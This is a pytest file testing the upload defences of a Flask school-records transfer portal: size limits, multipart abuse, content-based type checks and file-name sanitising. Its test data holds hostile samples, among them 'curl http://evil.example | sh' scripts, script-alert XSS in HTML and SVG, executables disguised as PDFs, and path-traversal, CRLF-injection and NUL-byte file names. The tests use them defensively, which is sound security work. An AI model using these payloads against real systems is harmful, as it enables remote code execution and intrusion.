"""Upload attacks (SECURITY.md items 25-28): size limits, multipart abuse, file types by content,
hostile file names. Each refused upload leaves no document row, no object and no temp file."""

from __future__ import annotations

import io
import re
import zipfile
from urllib.parse import quote

import pytest
from flask import Flask

from portal.models import Transfer, TransferStatus
from portal.transfers.filetypes import ALLOWED_DESCRIPTION
from tests.transfers.helpers import PDF_BYTES, create_draft, make_world, send, signed_in, upload
from tests.transfers.support_transfers import (
    BOUNDARY,
    OBJECT_KEY,
    FilePart,
    audit_rows,
    count_rows,
    document_rows,
    flashed,
    issue_link,
    multipart_body,
    objects_dir,
    page_token,
    post_raw_upload,
    stored_objects,
    temp_files,
    transfer_row,
)

SMALL_LIMIT = 100_000


def _assert_nothing_stored(app: Flask, transfer_id: int) -> None:
    assert document_rows(app, transfer_id) == []
    assert stored_objects(app) == []
    assert temp_files(app) == []
    assert transfer_row(app, transfer_id)["status"] is TransferStatus.DRAFT


@pytest.fixture
def small_limit(environ):
    environ["PORTAL_UPLOAD_LIMIT_BYTES"] = str(SMALL_LIMIT)
    return SMALL_LIMIT


# --- sizes and multipart abuse --------------------------------------------------------------------


@pytest.mark.parametrize(
    "size",
    [SMALL_LIMIT + 1, SMALL_LIMIT + 40_000, SMALL_LIMIT * 5],
    ids=["one-byte-over", "over-inside-the-header-allowance", "far-over"],
)
def test_file_over_the_upload_limit_is_refused_with_413_stores_nothing_and_is_audited(
    small_limit, app, factory, size
):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    content = (b"%PDF-1.7\n" + b"x" * size)[:size]

    response = upload(sender, transfer_id, content, "big.pdf")

    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "The file is too large" in page
    assert "The largest file you can upload is 100.0 KB" in page
    assert "Nothing was stored" in page
    _assert_nothing_stored(app, transfer_id)
    refused = audit_rows(app, "document.upload", outcome="failure", object_id=transfer_id)
    assert [row["details"] for row in refused] == ['{"reason":"too_large"}']


def test_file_exactly_at_the_upload_limit_is_accepted(small_limit, app, factory):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    content = (b"%PDF-1.7\n" + b"x" * SMALL_LIMIT)[:SMALL_LIMIT]

    assert upload(sender, transfer_id, content, "exact.pdf").status_code == 302

    (document,) = document_rows(app, transfer_id)
    assert document["plaintext_size"] == SMALL_LIMIT and document["stored_at"] is not None


def test_ten_thousand_multipart_parts_are_refused_and_nothing_is_stored(app, factory):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    token = page_token(sender, transfer_id)
    fields = [(f"f{n}", "x") for n in range(10_000)] + [("csrf_token", token), ("category", "pep")]

    response = post_raw_upload(sender, transfer_id, multipart_body(fields, FilePart(PDF_BYTES)))

    assert response.status_code in (400, 413)
    assert "too many" in response.get_data(as_text=True).lower()
    _assert_nothing_stored(app, transfer_id)
    assert audit_rows(app, "document.upload", outcome="failure", object_id=transfer_id)


def test_a_huge_form_field_before_the_file_is_refused_and_nothing_is_stored(app, factory):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    token = page_token(sender, transfer_id)
    fields = [("csrf_token", token), ("category", "pep"), ("padding", "A" * 5_000_000)]

    response = post_raw_upload(sender, transfer_id, multipart_body(fields, FilePart(PDF_BYTES)))

    assert response.status_code in (400, 413)
    assert "too long" in response.get_data(as_text=True).lower()
    _assert_nothing_stored(app, transfer_id)
    assert audit_rows(app, "document.upload", outcome="failure", object_id=transfer_id)


def test_an_upload_without_the_csrf_token_is_refused_before_anything_is_stored(app, factory):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)

    response = post_raw_upload(
        sender, transfer_id, multipart_body([("category", "pep")], FilePart(PDF_BYTES))
    )

    assert response.status_code == 400
    _assert_nothing_stored(app, transfer_id)


# --- file types, by content ---------------------------------------------------------------------


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return buffer.getvalue()


def _odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED
        )
        package.writestr(
            "content.xml", '<?xml version="1.0"?><office:document-content/>', zipfile.ZIP_DEFLATED
        )
        package.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>', zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("notes.txt", "hello")
    return buffer.getvalue()


ACCEPTED = [
    ("report.pdf", PDF_BYTES, "application/pdf"),
    ("scan.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64, "image/png"),
    ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "image/jpeg"),
    ("attendance.csv", b"date,present\n2026-09-01,yes\n2026-09-02,no\n", "text/csv"),
    ("notes.txt", "Reading age 9½ — good progress.\n".encode(), "text/plain"),
    (
        "pupil.xml",
        b'<?xml version="1.0" encoding="UTF-8"?>\n<CTfile><Header><Document>Common Transfer File'
        b"</Document><Version>19.0</Version></Header><CTFpupilData/></CTfile>\n",
        "application/xml",
    ),
    ("plan.docx", _docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("plan.odt", _odt(), "application/vnd.oasis.opendocument.text"),
]

REFUSED = [
    ("page.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    ("setup.docx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100),
    (
        "drawing.svg",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    (
        "drawing.xml",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    ("page.txt", b"<html><body onload=alert(1)>Hello</body></html>"),
    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100),
    ("archive.zip", _plain_zip()),
    ("install.sh", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    ("install.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    ("deploy.sh", b"curl http://evil.example | sh\n"),
    ("zipped.docx", _plain_zip()),
]


@pytest.mark.parametrize(("filename", "content", "content_type"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_each_allowed_kind_of_file_is_accepted_and_stored_encrypted(
    app, factory, filename, content, content_type
):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)

    response = upload(sender, transfer_id, content, filename)

    assert "has been uploaded and encrypted" in flashed(sender, response, "success")
    (document,) = document_rows(app, transfer_id)
    assert document["content_type"] == content_type
    assert document["plaintext_size"] == len(content)
    (stored,) = stored_objects(app)
    assert content not in stored.read_bytes()


@pytest.mark.parametrize(("filename", "content"), REFUSED, ids=[r[0] for r in REFUSED])
def test_a_disallowed_file_is_refused_with_a_message_naming_the_allowed_types(
    app, factory, filename, content
):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)

    response = upload(sender, transfer_id, content, filename)

    message = flashed(sender, response)
    assert ALLOWED_DESCRIPTION in message
    assert "has been uploaded" not in message
    _assert_nothing_stored(app, transfer_id)
    refused = audit_rows(app, "document.upload", outcome="failure", object_id=transfer_id)
    assert [row["details"] for row in refused] == ['{"reason":"type"}']


# --- hostile file names -------------------------------------------------------------------------

HOSTILE_NAMES = [
    ("../../x.pdf", "x.pdf"),
    ("..\\..\\windows\\x.pdf", "x.pdf"),
    ("/etc/passwd/../x.pdf", "x.pdf"),
    ("report\r\nX-Injected: yes.pdf", None),
    ("report\x00.exe.pdf", None),
    ("invoice\u202etxt.pdf", "invoicetxt.pdf"),
    ('quote";name=evil.pdf', None),
]


@pytest.mark.parametrize(("raw_name", "expected"), HOSTILE_NAMES, ids=lambda v: repr(v)[:20])
def test_a_hostile_file_name_is_sanitised_and_never_chooses_where_the_object_is_stored(
    app, factory, raw_name, expected
):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    token = page_token(sender, transfer_id)
    # RFC 5987 encoding carries CR, LF, NUL and U+202E through to the server as real characters.
    disposition = f"form-data; name=\"file\"; filename*=UTF-8''{quote(raw_name, safe='')}".encode()
    body = multipart_body(
        [("csrf_token", token), ("category", "pep")], FilePart(PDF_BYTES, disposition=disposition)
    )

    assert post_raw_upload(sender, transfer_id, body).status_code == 302

    (document,) = document_rows(app, transfer_id)
    name = document["display_filename"]
    if expected is not None:
        assert name == expected
    assert name.endswith(".pdf")
    assert not re.search(r"[\x00-\x1f\x7f/\\\"\u202a-\u202e\u2066-\u2069]", name)
    assert ".." not in name
    assert OBJECT_KEY.fullmatch(document["object_key"])
    (stored,) = stored_objects(app)
    assert stored == objects_dir(app) / document["object_key"]
    assert not list(objects_dir(app).parent.rglob("x.pdf"))

    assert send(sender, transfer_id).status_code == 302
    teacher = signed_in(app, world.teacher)
    download = teacher.get(issue_link(teacher, transfer_id, document["id"]))
    assert download.status_code == 200 and download.data == PDF_BYTES
    disposition_header = download.headers["Content-Disposition"]
    assert re.fullmatch(r"[\x20-\x7e]+", disposition_header), disposition_header
    found = re.fullmatch(
        r"attachment; filename=\"([^\"\\]*)\"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)", disposition_header
    )
    assert found, disposition_header
    assert found.group(2) == quote(name, safe="")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Cache-Control"] == "no-store"
    assert "sandbox" in download.headers["Content-Security-Policy"]


def test_uploads_to_a_sent_transfer_are_refused(app, factory):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    assert upload(sender, transfer_id, PDF_BYTES, "a.pdf").status_code == 302
    assert send(sender, transfer_id).status_code == 302

    message = flashed(sender, upload(sender, transfer_id, PDF_BYTES, "late.pdf"), "error")

    assert "only be added before the records are sent" in message
    assert len(document_rows(app, transfer_id)) == 1
    assert len(stored_objects(app)) == 1
    assert count_rows(app, Transfer) == 1


def test_a_chunked_upload_without_a_declared_length_is_cut_off_at_the_limit_and_audited(
    small_limit, app, factory
):
    world = make_world(factory)
    sender = signed_in(app, world.sender)
    transfer_id = create_draft(sender, world)
    token = page_token(sender, transfer_id)
    body = multipart_body(
        [("csrf_token", token), ("category", "pep")], FilePart(b"%PDF-1.7\n" + b"x" * (SMALL_LIMIT * 3))
    )

    response = sender.post(
        f"/transfers/{transfer_id}/documents",
        input_stream=io.BytesIO(body),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        environ_overrides={"wsgi.input_terminated": True},  # as a server does for chunked bodies
    )

    assert response.status_code == 413
    assert "The largest file you can upload is 100.0 KB" in response.get_data(as_text=True)
    _assert_nothing_stored(app, transfer_id)
    refused = audit_rows(app, "document.upload", outcome="failure", object_id=transfer_id)
    assert [row["details"] for row in refused] == ['{"reason":"too_large"}']
